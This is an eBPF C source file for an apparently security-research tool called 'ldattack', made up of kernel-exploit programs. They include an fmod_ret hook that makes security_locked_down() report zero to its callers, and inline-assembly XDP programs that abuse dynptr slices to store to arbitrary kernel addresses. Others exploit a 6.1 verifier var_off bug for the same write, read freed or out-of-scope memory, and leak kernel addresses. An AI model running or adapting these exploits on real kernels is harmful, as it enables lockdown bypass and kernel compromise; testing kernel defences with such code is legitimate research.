// SPDX-License-Identifier: GPL-2.0
/*
 * The BPF programs of ldattack's attacks that need the kernel's BTF
 * (attack_bpf.c), each loaded on its own. None asks a reason:
 *   btf_read  BTF pointer loads from a task to init_uts_ns's sysname
 *             (bpf-btf-read)
 *   btf_cast  bpf_rdonly_cast() of linux_banner's address (6.2 on)
 *   fmod_ret_high  fmod_ret on security_locked_down() returning 1 << 32:
 *             non-zero to the trampoline, which skips the function, and 0
 *             to every caller, which reads the low 32 bits (bpf-fmod-ret)
 *   slice_alias  an XDP program's writable dynptr slice of a stack buffer
 *             rewrites a map value pointer it spilled there: a store to
 *             any kernel address (bpf-dynptr-slice, 6.4 on)
 *   slice_twice  the same through a slice handed that slice as its buffer
 *             (bpf-dynptr-slice twice)
 *   slice_shrink  a global subprogram's slice of a frag, read after
 *             bpf_xdp_adjust_tail() freed the frag (bpf-dynptr-slice
 *             shrink)
 *   slice_frame  a read-only slice of a subprogram's stack buffer,
 *             returned, read after the frame is gone (bpf-dynptr-slice
 *             frame)
 *   dynptr_varoff  a socket filter's dynptr made at a stack offset the
 *             verifier places by its constant part alone (6.1): a store
 *             to any kernel address (bpf-dynptr-varoff)
 *   kptr_put, kptr_read  tc programs: one stores PID 1's task in a map as
 *             a kptr, the other reads the task through it with plain
 *             loads (bpf-kptr, 6.2 on)
 *   map_fields  a tc program's plain load from its own map's struct
 *             bpf_map: the kernel's address of the map's operations
 *             (bpf-map-fields)
 *   arg_trusted  a cgroup/connect4 program hands a TCP socket
 *             bpf_skc_to_tcp_sock() gave it to global subprograms whose
 *             argument is tagged trusted: plain loads from the kernel's
 *             tcp_prot (bpf-arg-trusted, 6.8 on)
 * Kernel types are declared with what the programs touch, relocated
 * against the kernel's BTF (CO-RE); no BPF_CORE_READ(), which would be a
 * bpf_probe_read_kernel() and ask its reason.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_core_read.h>

char LICENSE[] SEC("license") = "GPL";

#define CORE __attribute__((preserve_access_index))

struct new_utsname {
	char sysname[65];
} CORE;

struct uts_namespace {
	struct new_utsname name;
} CORE;

struct nsproxy {
	struct uts_namespace *uts_ns;
} CORE;

struct task_struct {
	int pid;
	char comm[16];
	struct nsproxy *nsproxy;
} CORE;

struct bpf_iter_meta {
	void *seq;
} CORE;

struct bpf_iter__task {
	struct bpf_iter_meta *meta;
	struct task_struct *task;
} CORE;

extern void *bpf_rdonly_cast(const void *obj, __u32 btf_id) __ksym __weak;
extern int bpf_dynptr_from_xdp(struct xdp_md *xdp, __u64 flags,
			       struct bpf_dynptr *ptr__uninit) __ksym __weak;
extern void *bpf_dynptr_slice(const struct bpf_dynptr *ptr, __u32 offset,
			      void *buffer__opt, __u32 buffer__szk) __ksym __weak;
extern void *bpf_dynptr_slice_rdwr(const struct bpf_dynptr *ptr, __u32 offset,
				   void *buffer__opt, __u32 buffer__szk) __ksym __weak;

/* set by ldattack before load (.rodata): linux_banner */
const volatile __u64 target_addr;

/* what the programs found (.bss, read by ldattack) */
char out[64];
__u64 hits;

SEC("iter/task")
int btf_read(struct bpf_iter__task *ctx)
{
	struct task_struct *t = ctx->task;

	if (!t || hits)
		return 0;
	for (int i = 0; i < 8; i++)
		out[i] = t->nsproxy->uts_ns->name.sysname[i];
	hits = 1;
	return 0;
}

SEC("iter/task")
int btf_cast(struct bpf_iter__task *ctx)
{
	struct new_utsname *u;

	if (!ctx->task || hits)
		return 0;
	/* linux_banner as a struct with a char array: any address, read */
	u = bpf_rdonly_cast((void *)target_addr, bpf_core_type_id_kernel(struct new_utsname));
	for (int i = 0; i < 32; i++)
		out[i] = u->sysname[i];
	hits = 1;
	return 0;
}

/*
 * 1 << 32 from a program on a function that returns int: the compiler
 * puts the 64-bit constant in R0 as it is. (Not a naked function: its
 * argument would have no name, and the kernel refuses such BTF.)
 */
SEC("fmod_ret/security_locked_down")
long long fmod_ret_high(unsigned long long *ctx)
{
	return 1ULL << 32;
}

/*
 * The packet ldattack runs the slice programs on: its linear part ends
 * at SLICE_LINEAR, so a slice across it is copied into the buffer, which
 * bpf_dynptr_slice(_rdwr)() returns.
 */
#define SLICE_LINEAR 100
#define SLICE_PACKET 1000

/* slice_alias: what to store, and where (.bss, set by ldattack each run) */
__u64 poke_addr;
__u64 poke_val;

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} slice_value SEC(".maps");

/*
 * The slice programs' first half: the map value in r7, the 8-byte buffer
 * at fp-16 zeroed, the dynptr at fp-40, and a writable slice of the
 * buffer across the linear part's end in r0 (to 1: if it fails).
 */
#define SLICE_SETUP				\
	"r6 = r1;"				\
	"r1 = 0;"				\
	"*(u32 *)(r10 - 4) = r1;"		\
	"r1 = %[value] ll;"			\
	"r2 = r10;"				\
	"r2 += -4;"				\
	"call %[lookup];"			\
	"if r0 == 0 goto 1f;"			\
	"r7 = r0;"				\
	"r1 = 0;"				\
	"*(u64 *)(r10 - 16) = r1;"		\
	"r1 = r6;"				\
	"r2 = 0;"				\
	"r3 = r10;"				\
	"r3 += -40;"				\
	"call %[from_xdp];"			\
	"r1 = r10;"				\
	"r1 += -40;"				\
	"r2 = %[off];"				\
	"r3 = r10;"				\
	"r3 += -16;"				\
	"r4 = 8;"				\
	"call %[slice_rdwr];"			\
	"if r0 == 0 goto 1f;"

/*
 * Their second half, the slice in r8: the map value pointer spilled over
 * the buffer, poke_addr written through the slice, the slot filled
 * back, and poke_val stored through what the verifier takes for the map
 * value pointer it spilled.
 */
#define SLICE_STORE				\
	"r8 = r0;"				\
	"*(u64 *)(r10 - 16) = r7;"		\
	"r1 = %[addr] ll;"			\
	"r1 = *(u64 *)(r1 + 0);"		\
	"*(u64 *)(r8 + 0) = r1;"		\
	"r7 = *(u64 *)(r10 - 16);"		\
	"r1 = %[val] ll;"			\
	"r1 = *(u64 *)(r1 + 0);"		\
	"*(u64 *)(r7 + 0) = r1;"		\
	"1: r0 = %[pass];"			\
	"exit;"

#define SLICE_ARGS \
	[value]"i"(&slice_value), [lookup]"i"(BPF_FUNC_map_lookup_elem), \
	[from_xdp]"i"(bpf_dynptr_from_xdp), [slice_rdwr]"i"(bpf_dynptr_slice_rdwr), \
	[off]"i"(SLICE_LINEAR - 4), [addr]"i"(&poke_addr), [val]"i"(&poke_val), [pass]"i"(XDP_PASS)

/* the slice of the buffer itself */
SEC("xdp.frags")
__attribute__((naked)) int slice_alias(void)
{
	asm volatile (SLICE_SETUP SLICE_STORE
		      :: SLICE_ARGS
		      : "r0", "r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8", "memory");
}

/*
 * A second writable slice handed the first as its buffer (a red team's):
 * where the data is not contiguous, the second is the first, which is
 * the stack buffer.
 */
SEC("xdp.frags")
__attribute__((naked)) int slice_twice(void)
{
	asm volatile (SLICE_SETUP
		      "r1 = r10;"
		      "r1 += -40;"
		      "r2 = %[off];"
		      "r3 = r0;"
		      "r4 = 8;"
		      "call %[slice_rdwr];"
		      "if r0 == 0 goto 1f;"
		      SLICE_STORE
		      :: SLICE_ARGS
		      : "r0", "r1", "r2", "r3", "r4", "r5", "r6", "r7", "r8", "memory");
}

/*
 * Never loaded: a call from C, so that the compiler puts the kfunc
 * slice_alias calls from assembly in the object's BTF, where libbpf
 * finds it (clang 14 does not for a call from asm alone).
 */
SEC("?xdp.frags")
int slice_rdwr_btf(struct xdp_md *xdp)
{
	struct bpf_dynptr d;

	bpf_dynptr_from_xdp(xdp, 0, &d);
	return bpf_dynptr_slice_rdwr(&d, 0, NULL, 0) ? XDP_DROP : XDP_PASS;
}

/* slice_shrink: what its slice read before and after the shrink (.bss) */
__u64 shrink_read[2];

/*
 * A global subprogram, which takes its dynptr argument for a local one
 * (do_check_common()): a slice of it 400 bytes into the frag, read before
 * and after bpf_xdp_adjust_tail() cuts the frag off and frees its page.
 */
__attribute__((noinline)) int slice_shrink_sub(struct xdp_md *xdp, const struct bpf_dynptr *d)
{
	const __u64 *p = bpf_dynptr_slice(d, SLICE_LINEAR + 400, NULL, sizeof(*p));

	if (!p)
		return 1;
	shrink_read[0] = *p;
	if (bpf_xdp_adjust_tail(xdp, -(SLICE_PACKET - SLICE_LINEAR)))
		return 1;
	shrink_read[1] = *p;
	return 0;
}

SEC("xdp.frags")
int slice_shrink(struct xdp_md *xdp)
{
	struct bpf_dynptr d;

	if (bpf_dynptr_from_xdp(xdp, 0, &d))
		return XDP_PASS;
	slice_shrink_sub(xdp, &d);
	return XDP_PASS;
}

#define FRAME_WORDS 32

/* slice_frame: what it read of the frame gone (.bss) */
__u64 frame_words[FRAME_WORDS];

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 8);
	__type(key, __u32);
	__type(value, __u64);
} frame_churn SEC(".maps");

/* a slice of this subprogram's own buffer, across the linear part's end */
static __attribute__((noinline)) const __u64 *slice_of_frame(struct xdp_md *xdp)
{
	struct bpf_dynptr d;
	__u64 buf[FRAME_WORDS];

	__builtin_memset(buf, 0, sizeof(buf));
	if (bpf_dynptr_from_xdp(xdp, 0, &d))
		return 0;
	return bpf_dynptr_slice(&d, SLICE_LINEAR - 4, buf, sizeof(buf));
}

SEC("xdp.frags")
int slice_frame(struct xdp_md *xdp)
{
	const __u64 *p = slice_of_frame(xdp);
	__u32 k = 0;
	__u64 v = 1;

	if (!p)
		return XDP_PASS;
	/* the kernel's calls, over the frame gone */
	bpf_map_update_elem(&frame_churn, &k, &v, BPF_ANY);
	for (int i = 0; i < FRAME_WORDS; i++)
		frame_words[i] = p[i];
	return XDP_PASS;
}

/*
 * dynptr_varoff (a red team's, on Debian 12's kernel with the BPF
 * backend): bpf_dynptr_from_mem() is handed a stack pointer whose
 * variable part is dv_var & 16, 16 at run time, anything in [0, 16] to
 * the verifier. A verifier that places a dynptr argument by the
 * pointer's constant offset alone (6.1; 6.2's "bpf: Fix missing var_off
 * check for ARG_PTR_TO_DYNPTR" refuses it) marks the slot at the constant
 * offset a dynptr, where the program wrote one of its own: data at
 * poke_addr, dv_word its size and type (6.1's struct bpf_dynptr_kern).
 * The helper makes the real one 16 bytes on, and bpf_dynptr_write()
 * through the marked slot stores poke_val at poke_addr. Root only: the
 * verifier takes no variable stack offset from a program without
 * CAP_PERFMON.
 */
__u64 dv_var;
__u64 dv_word;
__u64 dv_mem[2];
long dv_ret;

SEC("socket")
int dynptr_varoff(struct __sk_buff *skb)
{
	struct bpf_dynptr slots[2];
	__u64 *own = (__u64 *)slots;
	__u64 var = dv_var & 16;

	own[0] = poke_addr;
	own[1] = dv_word;
	bpf_dynptr_from_mem(dv_mem, sizeof(dv_mem), 0, (void *)((char *)slots + var));
	dv_ret = bpf_dynptr_write(&slots[0], 0, &poke_val, sizeof(poke_val), 0);
	return 1;
}

/*
 * bpf-kptr: kp_map's value is a kptr to a task (ldattack makes the map,
 * its BTF's "kptr" tag on the pointer: clang 14 puts none on a map's
 * value). kptr_put stores PID 1's task there with bpf_kptr_xchg(), a
 * reference bpf_task_from_pid() (a kfunc) handed out. kptr_read, any
 * program with the map, loads the kptr: inside its RCU section, the
 * verifier trusts it (MEM_RCU, 6.2 on) and its loads from the task are
 * plain ones, no BPF_PROBE_MEM, no helper, no kfunc.
 */
struct kp_val {
	struct task_struct *t;
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct kp_val);
} kp_map SEC(".maps");

extern struct task_struct *bpf_task_from_pid(__s32 pid) __ksym __weak;
extern void bpf_task_release(struct task_struct *p) __ksym __weak;

int kp_pid;
char kp_comm[16];

static __always_inline struct kp_val *kp_value(void)
{
	__u32 key = 0;

	return bpf_map_lookup_elem(&kp_map, &key);
}

SEC("tc")
int kptr_put(struct __sk_buff *skb)
{
	struct kp_val *v = kp_value();
	struct task_struct *t;

	if (!v)
		return 0;
	t = bpf_task_from_pid(1);
	if (!t)
		return 0;
	t = bpf_kptr_xchg(&v->t, t);
	if (t)
		bpf_task_release(t);
	return 1;
}

SEC("tc")
int kptr_read(struct __sk_buff *skb)
{
	struct kp_val *v = kp_value();
	struct task_struct *t;

	if (!v)
		return 0;
	t = v->t;
	if (!t)
		return 0;
	kp_pid = t->pid;
	for (int i = 0; i < 16; i++)
		kp_comm[i] = t->comm[i];
	return 1;
}

/*
 * bpf-map-fields: the verifier lets a program with CAP_PERFMON load from
 * a map's own kernel object, struct bpf_map and its kind's (bpf_array),
 * with plain loads (check_ptr_to_map_access()): here mf_map's ops, the
 * kernel's address of array_map_ops.
 */
struct bpf_map {
	const void *ops;
} CORE;

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, __u64);
} mf_map SEC(".maps");

__u64 mf_ops;

SEC("tc")
int map_fields(struct __sk_buff *skb)
{
	const struct bpf_map *m = (const struct bpf_map *)&mf_map;

	mf_ops = (__u64)m->ops;
	return 1;
}

/*
 * bpf-arg-trusted: bpf_skc_to_tcp_sock() gives a BTF pointer the verifier
 * does not trust (its loads are BPF_PROBE_MEM ones). Handed to a global
 * subprogram whose argument is tagged trusted, it is trusted there: 6.12's
 * verifier takes a plain BTF pointer for one (later kernels refuse it),
 * and the loads through it are plain ones. The socket's proto, loaded
 * there, is handed on to another such subprogram, which copies its name
 * ("TCP", the kernel's tcp_prot) with plain loads too.
 */
struct proto {
	char name[32];
} CORE;

struct sock_common {
	struct proto *skc_prot;
} CORE;

struct sock {
	struct sock_common __sk_common;
} CORE;

struct inet_sock {
	struct sock sk;
} CORE;

struct inet_connection_sock {
	struct inet_sock icsk_inet;
} CORE;

struct tcp_sock {
	struct inet_connection_sock inet_conn;
} CORE;

#define __arg_trusted __attribute__((btf_decl_tag("arg:trusted")))

char at_name[8];
__u64 at_hits;

__attribute__((noinline)) int at_proto(struct proto *p __arg_trusted)
{
	if (!p)
		return 0;
	for (int i = 0; i < 8; i++)
		at_name[i] = p->name[i];
	return 1;
}

__attribute__((noinline)) int at_tcp(struct tcp_sock *tp __arg_trusted)
{
	if (!tp)
		return 0;
	at_hits++;
	return at_proto(tp->inet_conn.icsk_inet.sk.__sk_common.skc_prot);
}

SEC("cgroup/connect4")
int arg_trusted(struct bpf_sock_addr *ctx)
{
	struct bpf_sock *sk = ctx->sk;
	struct tcp_sock *tp;

	if (!sk)
		return 1;
	tp = bpf_skc_to_tcp_sock(sk);
	if (tp)
		at_tcp(tp);
	return 1;
}
